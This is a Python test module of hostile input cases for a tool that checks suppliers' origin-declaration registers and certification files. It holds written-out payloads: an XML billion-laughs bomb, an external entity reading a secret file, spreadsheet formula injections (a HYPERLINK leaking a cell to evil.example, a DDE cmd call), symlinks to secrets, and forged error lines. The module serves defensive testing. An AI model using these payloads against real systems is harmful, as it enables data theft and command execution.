"""The register of suppliers' declarations (issue 14): a shipment's ``declarations.csv``,
the certification files of its ``declarations/`` folder, and ``--declarations PATH`` given
for a batch. The same classes as every table and document (bytes, structure, huge cells and
rows, dates and enums, XML bombs, deep JSON, links, FIFOs), and the register's own rules.
"""

from __future__ import annotations

from typing import Any

from tests.hostile.build import (
    SECRET,
    Base,
    Case,
    Op,
    accepted,
    append,
    case,
    copy,
    err,
    extend,
    fifo,
    lines,
    many,
    mkdir,
    on_base,
    recode,
    remove,
    sample,
    sub,
    sub_bytes,
    symlink,
    truncate,
    write,
    write_hex,
)
from tests.hostile.ops import SAMPLES

MiB = 1024 * 1024
DEEP = 100_000
FORGED = r"(?m)^error: FORGED"
XML_ENTITY = "DTD|DOCTYPE|entit"
SAMPLE = "40-office-chairs-declarations"
"""Sample 40 has findings (claims its register does not back): its clean exit is 1."""

REGISTER = "ship/declarations.csv"
CERT_JSON = "ship/declarations/DECL-2026-030.json"
CERT_XML = "ship/declarations/DECL-2026-099.xml"
HEADER = (SAMPLES / SAMPLE / "declarations.csv").read_text(encoding="utf-8").splitlines()[0]

ROW2 = "DECL-2026-014,Fundiciones de Jalisco SA de CV,BASE-5S; BASE-5N,,originating,B,blanket,"
"""The start of row 2 of the sample's register, up to its period."""
FREE_TEXT = "Luis Herrera, export manager (exporter)"
"""The certifier of row 2: free text, read as it is."""
LAST_ROW = 5

SHIP = (sample(SAMPLE, "ship"),)
CSV = Base("declarations-csv", SHIP, ("check", "ship"), REGISTER, 1)
FOLDER = Base("declarations-folder", SHIP, ("check", "ship"), "ship/declarations", 1)
JSON = Base("declaration-json", SHIP, ("check", "ship"), CERT_JSON, 1)
XML = Base(
    "declaration-xml",
    (*SHIP, sample("01-motor-tariff-shift/certificate.xml", CERT_XML)),
    ("check", "ship"),
    CERT_XML,
    1,
)
"""A certification in XML beside the sample's JSON one; no BOM line names it."""


def _cell(old: str, new: str) -> Op:
    """Row 2 with ``old`` (unique in the register) replaced by ``new``."""
    return sub(REGISTER, old, new)


# ------------------------------------------------------------------------ the register table


def register_byte_cases() -> list[Case]:
    f, b = REGISTER, CSV
    return [
        on_base(b, "empty-file", "empty-file", "a zero-byte register", write(f, ""), stderr=err(f)),
        on_base(b, "bom-only", "bom-only", "only the UTF-8 byte-order mark",
                write_hex(f, b"\xef\xbb\xbf"), stderr=err(f)),
        on_base(b, "header-only", "empty-table", "the header and no declarations",
                write(f, HEADER + "\n"), stderr=err(f, "row 1", text="no declarations")),
        on_base(b, "nul-byte", "nul-byte", "a NUL byte inside row 2",
                sub_bytes(f, FREE_TEXT, FREE_TEXT.encode() + b"\x00"), stderr=err(f, "row 2")),
        on_base(b, "invalid-utf8", "invalid-utf8", "a Latin-1 byte (0xE9) in row 2",
                sub_bytes(f, "Fundiciones", b"Fundici\xf3nes"), stderr=err(f, "row 2")),
        on_base(b, "utf-16", "utf-16", "the register saved as UTF-16 with its BOM",
                recode(f, encoding="utf-16"), stderr=err(f)),
        accepted(b, "crlf", "crlf", "CRLF line endings",
                 "CSV from Windows ends lines with CRLF; the csv module reads it",
                 recode(f, newline="\r\n")),
        accepted(b, "utf8-bom", "bom-prefix", "UTF-8 with a byte-order mark",
                 "documented: a byte-order mark is fine ('CSV UTF-8' in Excel)",
                 sub(f, "declaration_id,", "\ufeffdeclaration_id,")),
        on_base(b, "truncated-mid-row", "truncated", "the file cut in the middle of its last row",
                truncate(f, -60), stderr=err(f, f"row {LAST_ROW}")),
        on_base(b, "unterminated-quote", "malformed-csv", "a quoted field that never closes",
                append(f, '"OPEN-QUOTE,never closed\n'), stderr=err(f)),
        on_base(b, "oversize-file", "huge-file", "the register grown past 20 MiB (sparse zeros)",
                extend(f, 21 * MiB), stderr=err(f, text="20 MiB|limit")),
    ]  # fmt: skip


def register_structure_cases() -> list[Case]:
    f, b = REGISTER, CSV
    return [
        on_base(b, "unknown-column", "unknown-column", "column 'supplier' misspelt 'suplier'",
                sub(f, HEADER, HEADER.replace("supplier", "suplier")),
                stderr=err(f, "row 1", "suplier", "did you mean 'supplier'")),
        on_base(b, "missing-required-column", "missing-column", "column 'signed_on' renamed away",
                sub(f, HEADER, HEADER.replace("signed_on", "signed")),
                stderr=err(f, "row 1", "signed_on", "required column")),
        on_base(b, "duplicate-column", "duplicate-column", "column 'supplier' given twice",
                sub(f, HEADER, HEADER.replace("certifier", "supplier")), stderr=err(f, "row 1")),
        on_base(b, "extra-cells", "extra-cells", "a row with more cells than the header",
                sub(f, "DECL-2026-044,", "DECL-2026-044,EXTRA-1,EXTRA-2,"), stderr=err(f, f"row {LAST_ROW}")),
        on_base(b, "long-field", "long-field", "a 40,000-character certifier",
                sub(f, FREE_TEXT, FREE_TEXT, before=("L", 40_000)), stderr=err(f, text="32,767|limit")),
        on_base(b, "field-over-csv-limit", "long-field", "one quoted field of 1 MiB",
                sub(f, FREE_TEXT, FREE_TEXT, before=("M", MiB)), stderr=err(f)),
        on_base(b, "control-chars", "control-chars", "escape sequences and a bell in the scope",
                _cell(",B,blanket,", ",B,X\x1b[2J\x1b]0;pwned\x07\x9b1m,"), stderr=err(f, "row 2", "scope")),
        on_base(b, "newline-forged-error", "forged-line",
                "a quoted scope holding a newline and a fake 'error:' line",
                _cell(",B,blanket,", ',B,"BAD\nerror: FORGED line from a value",'),
                stderr=err(f, "row 2", "scope"), forbid=(FORGED,)),
        on_base(b, "bidi-override", "control-chars", "a right-to-left override in the criterion",
                _cell(",B,blanket,", ",B\u202eC,blanket,"), stderr=err(f, "row 2", "criterion")),
        accepted(b, "formula-injection-certifier", "formula-injection",
                 "=HYPERLINK(...) as the certifier (free text)",
                 "free text is read as text; the CSV report neutralises formulas",
                 sub(f, FREE_TEXT, '=HYPERLINK(""http://evil.example/?x=""&A1,""click"")')),
        accepted(b, "formula-injection-id", "formula-injection",
                 "a formula as a declaration's id: the BOM line naming the old id finds nothing",
                 "an id is text; the claim naming DECL-2026-014 is flagged as not in the register",
                 _cell("DECL-2026-014,", "=cmd|' /C calc'!A0,")),
        accepted(b, "formula-injection-supplier", "formula-injection",
                 "+SUM(1+1)*cmd as a declaration's supplier",
                 "a supplier is text; the claim is flagged as backed by another supplier",
                 _cell("Fundiciones de Jalisco SA de CV,BASE", "+SUM(1+1)*cmd|' /C calc'!A0,BASE")),
        accepted(b, "blank-row", "blank-rows", "a wholly empty row between declarations",
                 "documented: wholly empty rows are skipped", _cell("DECL-2026-021,", ",,,\n\nDECL-2026-021,")),
        accepted(b, "duplicate-ids", "duplicate-rows", "every declaration given twice",
                 "rows may share an id (a declaration per criterion); each is found",
                 sub(f, HEADER + "\n", HEADER + "\n" + "\n".join(
                     (SAMPLES / SAMPLE / "declarations.csv").read_text(encoding="utf-8").splitlines()[1:]) + "\n")),
    ]  # fmt: skip


def register_huge_cases() -> list[Case]:
    """The rows limit, and one declaration covering thousands of materials."""
    f, b = REGISTER, CSV
    text = (SAMPLES / SAMPLE / "declarations.csv").read_text(encoding="utf-8")
    filler = (
        "FILL-@I@,Filler SA,FILL-PART-@I@,,originating,B,blanket,2026-01-01,2026-12-31,,"
        "2025-12-10,Someone\n"
    )
    return [
        on_base(b, "rows-100001", "huge-rows", "100,001 declarations (the limit is 100,000)",
                lines(f, filler, 100_001, head=HEADER + "\n"), stderr=err(f, text="100,000"), timeout=30.0),
        accepted(b, "rows-100000", "huge-rows",
                 "the sample's 4 declarations and 99,996 more: the rows limit exactly",
                 "the rows limit is 100,000: a register at the limit is read",
                 lines(f, filler, 99_996, head=text), timeout=30.0),
        on_base(b, "columns-20000", "huge-columns", "20,000 unknown columns in the header",
                sub(f, HEADER, HEADER, after=(",col_@I@", 20_000)), stderr=err(f, "row 1")),
        accepted(b, "hs-codes-3000", "wide-cell", "3,000 HS codes in one cell, ';' between them",
                 "a declaration may cover many materials; the cell is under the 32,767 limit",
                 _cell(",BASE-5S; BASE-5N,,", ",BASE-5S; BASE-5N,@C@,"),
                 sub(f, "@C@", "9401", before=("3921.13;", 3000))),
        on_base(b, "semicolons-only", "empty-list", "part_numbers of ';' alone and no hs_codes",
                _cell(",BASE-5S; BASE-5N,,", ",;;;;;;,,"), stderr=err(f, "row 2", "part_numbers")),
    ]  # fmt: skip


REGISTER_VALUES = (
    ("date-impossible", "impossible-date", "2025-12-10", "2025-02-30", "signed_on"),
    ("date-year-10000", "far-date", "2025-12-10", "10000-01-01", "signed_on"),
    ("date-year-9999", "far-date", "2025-12-10", "9999-12-31", "signed_on"),
    ("date-us-format", "non-iso-date", "2025-12-10", "12/10/2025", "signed_on"),
    ("date-arabic-indic", "unicode-digits", "2025-12-10", "٢٠٢٥-١٢-١٠", "signed_on"),
    ("period-end-before-start", "inconsistent", "2026-01-01,2026-12-31,", "2026-12-31,2026-01-01,", "period_end"),
    ("enum-scope", "unknown-enum", ",B,blanket,", ",B,forever,", "scope"),
    ("enum-origin-status-fungible", "unknown-enum", ",originating,B,blanket,2026-01-01", ",fungible,B,blanket,2026-01-01", "origin_status"),
    ("enum-criterion", "unknown-enum", ",B,blanket,", ",E,blanket,", "criterion"),
    ("criterion-missing", "inconsistent", ",B,blanket,", ",,blanket,", "criterion"),
    ("blanket-without-period", "inconsistent", ",blanket,2026-01-01,2026-12-31,", ",blanket,,,", "period_start"),
    ("period-on-single-shipment", "inconsistent", ",blanket,2026-01-01,", ",single_shipment,2026-01-01,", "period_start"),
    ("hs-letters", "malformed-code", ",BASE-5S; BASE-5N,,", ",BASE-5S; BASE-5N,94B1,", "hs_codes"),
    ("hs-fullwidth", "unicode-digits", ",BASE-5S; BASE-5N,,", ",BASE-5S; BASE-5N,９４０１,", "hs_codes"),
    ("id-blank", "empty-value", "DECL-2026-014,", "   ,", "declaration_id"),
)  # fmt: skip


def register_value_cases() -> list[Case]:
    f = REGISTER
    cases = [
        on_base(CSV, name, klass, f"row 2: {new!r} in place of {old!r}", _cell(old, new),
                stderr=err(f, "row 2", field))
        for name, klass, old, new, field in REGISTER_VALUES
    ]  # fmt: skip
    cases += [
        accepted(CSV, "blanket-1900-to-2999", "far-date",
                 "a blanket period from 1900-01-01 to 2999-12-31",
                 "dates in range; the claim is flagged: longer than the 12 months allowed",
                 _cell("2026-01-01,2026-12-31,", "1900-01-01,2999-12-31,")),
        accepted(CSV, "spelt-loosely", "case-insensitive-values",
                 "criterion 'b', scope 'Single Shipment', origin_status 'Originating'",
                 "documented: enum values are read without regard to case, spaces or hyphens",
                 _cell(",originating,B,blanket,2026-01-01,2026-12-31,", ",Originating,b,Single Shipment,,,")),
    ]  # fmt: skip
    return cases


# --------------------------------------------------------------- the declarations/ folder

CERT_LAUGHS = (
    '<!DOCTYPE certificate [<!ENTITY l0 "lol">'
    + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    + "]>\n<certificate xmlns"
)
XML_NAME = "<name>Motores del Bajio SA de CV</name>"
XML_ROOT = "<certificate xmlns"


def certification_cases() -> list[Case]:
    x, j = CERT_XML, CERT_JSON
    return [
        on_base(XML, "billion-laughs", "xml-bomb", "nested entities (billion laughs) in declarations/",
                sub(x, XML_ROOT, CERT_LAUGHS), sub(x, XML_NAME, "<name>&l9;</name>"),
                stderr=err(x, text=XML_ENTITY)),
        on_base(XML, "external-entity-secret", "xml-external-entity",
                "an external entity reading the secret file into a name",
                sub(x, XML_ROOT, f'<!DOCTYPE certificate [<!ENTITY xxe SYSTEM "file://{SECRET}">]>\n' + XML_ROOT),
                sub(x, XML_NAME, "<name>&xxe;</name>"), stderr=err(x, text=XML_ENTITY)),
        on_base(XML, "deep-nesting", "deep-nesting", f"elements nested {DEEP:,} deep",
                sub(x, "<certifierRole>producer</certifierRole>", "<certifierRole>producer</certifierRole>@DEEP@"),
                sub(x, "@DEEP@", "", before=("<x>", DEEP), after=("</x>", DEEP)),
                stderr=err(x, text="deep|depth|nest")),
        on_base(XML, "truncated", "truncated", "the certification cut 40 bytes short",
                truncate(x, -40), stderr=err(x)),
        on_base(XML, "not-xml", "wrong-format", "a CSV table named .xml", write(x, "a,b\n1,2\n"),
                stderr=err(x)),
        on_base(JSON, "deep-nesting", "deep-nesting", f"arrays nested {DEEP:,} deep",
                sub(j, "{", '{"deep": @DEEP@, ', 1), sub(j, "@DEEP@", "", before=("[", DEEP), after=("]", DEEP)),
                stderr=err(j, text="deep|depth|nest")),
        on_base(JSON, "empty-object", "wrong-shape", "an empty object", write(j, "{}\n"), stderr=err(j)),
        on_base(JSON, "top-level-array", "wrong-shape", "a list instead of an object", write(j, "[]\n"),
                stderr=err(j)),
        on_base(JSON, "nan-value", "nan-infinity", "a bare NaN", sub(j, "{", '{"x": NaN, ', 1), stderr=err(j)),
        on_base(JSON, "duplicate-key", "duplicate-key", "certifier_role given twice",
                sub(j, "{", '{"certifier_role": "exporter", ', 1), stderr=err(j, text="duplicate|twice")),
        on_base(JSON, "invalid-utf8", "invalid-utf8", "a Latin-1 byte (0xE9)",
                sub_bytes(j, "Rosa Medina", b"Ros\xe9 Medina"), stderr=err(j)),
        on_base(JSON, "oversize-file", "huge-file", "grown past 20 MiB (sparse zeros)",
                extend(j, 21 * MiB), stderr=err(j, text="20 MiB|limit")),
        on_base(JSON, "signature-date-impossible", "impossible-date", "signed on 2026-02-30",
                sub(j, '"date": "2026-06-20"', '"date": "2026-02-30"'), stderr=err(j)),
    ]  # fmt: skip


DECLS = "ship/declarations"


def folder_cases() -> list[Case]:
    b = FOLDER
    forged = f"{DECLS}/x\nerror: FORGED.json"
    return [
        on_base(b, "symlink-secret", "symlink-outside", "a certification -> the secret file",
                symlink(f"{DECLS}/DECL-9.json", SECRET), stderr=err(f"{DECLS}/DECL-9.json", text="outside")),
        on_base(b, "symlink-secret-relative", "symlink-outside", "a certification -> ../../../../../secret.txt",
                symlink(f"{DECLS}/DECL-9.json", "../../../../../secret.txt"), stderr=err(f"{DECLS}/DECL-9.json")),
        on_base(b, "folder-symlink-outside", "symlink-outside",
                "declarations/ -> a folder outside the shipment holding a link to the secret",
                mkdir("outside"), symlink("outside/DECL-9.json", SECRET), remove(DECLS),
                symlink(DECLS, "../outside"), stderr=err(DECLS, text="outside")),
        on_base(b, "symlink-loop", "symlink-loop", "a certification linking to itself",
                symlink(f"{DECLS}/LOOP.json", "LOOP.json"), stderr=err(f"{DECLS}/LOOP.json", text="loop")),
        on_base(b, "symlink-loop-pair", "symlink-loop", "a.json -> b.json -> a.json",
                symlink(f"{DECLS}/a.json", "b.json"), symlink(f"{DECLS}/b.json", "a.json"),
                stderr=err(f"{DECLS}/a.json", text="loop")),
        on_base(b, "symlink-dev-zero", "symlink-outside", "a certification -> /dev/zero (endless)",
                symlink(f"{DECLS}/ZERO.json", "/dev/zero"), stderr=err(f"{DECLS}/ZERO.json")),
        accepted(b, "symlink-inside", "symlink-inside", "a certification linking to another in the shipment",
                 "a link that stays inside the shipment folder is read",
                 symlink(f"{DECLS}/COPY.json", "DECL-2026-030.json")),
        on_base(b, "fifo-json", "fifo", "a certification that is a FIFO with no writer",
                fifo(f"{DECLS}/PIPE.json"), stderr=err(f"{DECLS}/PIPE.json", text="FIFO")),
        on_base(b, "register-fifo", "fifo", "declarations.csv is a FIFO with no writer",
                remove(REGISTER), fifo(REGISTER), stderr=err(REGISTER, text="FIFO")),
        on_base(b, "register-in-folder-fifo", "fifo", "declarations/declarations.csv is a FIFO",
                fifo(f"{DECLS}/declarations.csv"), stderr=err(f"{DECLS}/declarations.csv", text="FIFO")),
        on_base(b, "directory-named-json", "not-a-file", "a directory named DIR.json in declarations/",
                mkdir(f"{DECLS}/DIR.json"), stderr=err(f"{DECLS}/DIR.json", text="directory")),
        on_base(b, "files-1001", "too-many-files", "1,001 certifications (limit 1,000)",
                many(f"{DECLS}/c-@I@.json", 1001, "{}\n"), stderr=err(DECLS, text="1,000")),
        on_base(b, "xls-in-folder", "refused-format", "an .xls workbook in declarations/",
                write(f"{DECLS}/old.xls", "\xd0\xcf"), stderr=err(f"{DECLS}/old.xls", text=r"\.xls")),
        on_base(b, "xlsm-in-folder", "macro-workbook", "a macro workbook in declarations/",
                write(f"{DECLS}/declarations.xlsm", "PK"), stderr=err(f"{DECLS}/declarations.xlsm", text="macro")),
        on_base(b, "register-xls", "refused-format", "declarations.xls beside declarations.csv",
                write("ship/declarations.xls", "\xd0\xcf"), stderr=err("ship/declarations.xls", text=r"\.xls")),
        on_base(b, "two-registers", "duplicate-role", "declarations.csv and DECLARATIONS.CSV",
                copy(REGISTER, "ship/DECLARATIONS.CSV"), stderr=err("ship", field="declarations")),
        on_base(b, "stray-table", "wrong-name", "notes.csv in declarations/",
                write(f"{DECLS}/notes.csv", "a,b\n1,2\n"),
                stderr=err(f"{DECLS}/notes.csv", text="must be named declarations.csv")),
        accepted(b, "stray-files", "ignored-files",
                 "a README, a hidden garbage file and an Excel lock file in declarations/",
                 "documented: other files, hidden files and ~$ lock files are skipped",
                 write(f"{DECLS}/README.txt", "\x00garbage"), write(f"{DECLS}/.hidden.json", "\x00garbage"),
                 write(f"{DECLS}/~$declarations.xlsx", "\x00garbage")),
        accepted(b, "empty-folder", "empty-folder", "an empty declarations/ beside the register",
                 "an empty folder adds nothing; the register beside it is read",
                 remove(f"{DECLS}/DECL-2026-030.json")),
        on_base(b, "name-newline-forged-error", "forged-line",
                "a broken certification whose file name holds a newline and a fake 'error:' line",
                write(forged, "{"), stderr=r"^error: ship/declarations/x\\nerror: FORGED\.json",
                forbid=(FORGED,)),
    ]  # fmt: skip


# ---------------------------------------------------------------- --declarations PATH


def _given(
    variant: str, klass: str, description: str, build: list[Op], path: str, **expect: Any
) -> Case:
    """``roo-check check ship --declarations PATH`` on sample 40 stripped of its own register."""
    plain = [sample(SAMPLE, "ship"), remove(REGISTER), remove(DECLS)]
    expect.setdefault("exit", 2)
    return case("declarations-option", variant, klass, description, [*plain, *build],
                ["check", "ship", "--declarations", path], **expect)  # fmt: skip


def option_cases() -> list[Case]:
    register = f"{SAMPLE}/declarations.csv"
    return [
        _given("bad-row", "impossible-date", "a register whose row 2 is signed on 2025-02-30",
               [sample(register, "reg.csv"), sub("reg.csv", "2025-12-10", "2025-02-30")], "reg.csv",
               stderr=err("reg.csv", "row 2", "signed_on")),
        _given("fifo", "fifo", "--declarations names a FIFO with no writer", [fifo("reg.csv")], "reg.csv",
               stderr=err("reg.csv", text="FIFO")),
        _given("dev-null", "not-a-file", "--declarations /dev/null", [], "/dev/null",
               stderr=err("/dev/null")),
        _given("symlink-loop", "symlink-loop", "--declarations names a symlink loop",
               [symlink("loop.csv", "loop.csv")], "loop.csv", stderr=r"^error: .*loop\.csv"),
        _given("symlink-secret", "symlink-outside", "a folder given whose certification -> the secret",
               [mkdir("reg"), symlink("reg/DECL-1.json", SECRET)], "reg", stderr=err("reg/DECL-1.json")),
        _given("empty-folder", "empty-folder", "an empty folder", [mkdir("reg")], "reg",
               stderr=err("reg", text="holds no declarations")),
        _given("text-file", "wrong-format", "a .txt file", [write("reg.txt", "hello\n")], "reg.txt",
               stderr=err("reg.txt", text=r"\.txt")),
        _given("xls-file", "refused-format", "a .xls workbook", [write("reg.xls", "\xd0\xcf")], "reg.xls",
               stderr=err("reg.xls", text=r"\.xls")),
        _given("shipment-folder", "wrong-format", "a shipment folder given as the register",
               [sample(SAMPLE, "other")], "other", stderr=err("other/bom.csv", text="must be named")),
        _given("billion-laughs", "xml-bomb", "a certification with nested entities",
               [sample("01-motor-tariff-shift/certificate.xml", "reg.xml"), sub("reg.xml", XML_ROOT, CERT_LAUGHS),
                sub("reg.xml", XML_NAME, "<name>&l9;</name>")], "reg.xml", stderr=err("reg.xml", text=XML_ENTITY)),
        _given("path-5000-chars", "long-argument", "a missing path of 5,000 characters", [], "x" * 5000,
               stderr=r"^error: .*--declarations"),
        _given("path-forged-newline", "forged-line", "a missing path holding a newline and a fake 'error:' line",
               [], "nope\nerror: FORGED path", stderr=r"^error: .*--declarations", forbid=(FORGED,)),
        _given("good-register", "control", "the sample's register given for the batch",
               [sample(register, "reg.csv")], "reg.csv", exit=1),
        case("declarations-option", "given-twice-strict", "duplicate-rows",
             "one register given twice with --strict-evidence",
             [sample(SAMPLE, "ship")],
             ["check", "ship", "--declarations", REGISTER, "--declarations", REGISTER, "--strict-evidence"],
             exit=1, accepted_because="the same declarations twice back the same claims; strict re-decides"),
    ]  # fmt: skip


def register_cases() -> list[Case]:
    return (
        register_byte_cases()
        + register_structure_cases()
        + register_huge_cases()
        + register_value_cases()
        + certification_cases()
        + folder_cases()
        + option_cases()
    )
